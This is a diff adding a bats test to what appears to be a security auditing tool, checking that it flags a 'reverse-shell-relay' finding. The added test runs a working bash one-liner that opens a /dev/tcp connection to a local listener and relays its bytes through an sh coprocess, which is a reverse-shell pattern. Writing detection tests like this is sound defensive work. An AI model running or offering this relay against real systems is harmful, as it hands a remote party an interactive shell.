@@ -58,6 +58,17 @@ now() {
 	run -0 "$KWP" audit --now -q -p "$deleted" --severity critical --filter 'rule.name == nosuch'
 }
 
+@test "a shell that others carry a connection's bytes to" {
+	to=ready start peer 47124 ''
+	until_true 10 grep -q ready ready
+	start bash -c 'exec 3<>/dev/tcp/127.0.0.1/47124; coproc sh; cat <&3 >&${COPROC[1]} & cat <&${COPROC[0]} >&3'
+	until_true 10 pgrep -s $! -x sh
+	sleep 0.3
+	now -f
+	is 1
+	has '.rule.name == "reverse-shell-relay" and .process.name == "sh"'
+}
+
 @test "what is harmless is no finding: exit status 0, nothing printed" {
 	start sleep 60
 	start bash -c 'sleep 60 | cat'
